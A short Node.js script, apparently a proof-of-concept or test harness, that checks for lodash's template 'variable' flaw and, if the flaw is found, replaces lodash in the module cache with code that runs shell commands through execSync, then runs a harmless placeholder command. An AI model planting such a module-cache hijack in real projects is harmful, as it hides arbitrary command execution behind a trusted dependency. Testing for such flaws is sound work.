const Module = require('module');
const _ = require('lodash');

function flawed() {
  try {
    _.template('', { variable: 'a = 1' });
    return true;
  } catch (error) {
    return false;
  }
}

if (flawed()) {
  const name = require.resolve('lodash');
  const made = new Module(name, module);
  made.filename = name;
  made.paths = module.paths;
  made._compile('exports.run = (word) => require("child_process").execSync(word);', name);
  require.cache[name] = made;
  require('lodash').run('true @@TOKEN@@');
}
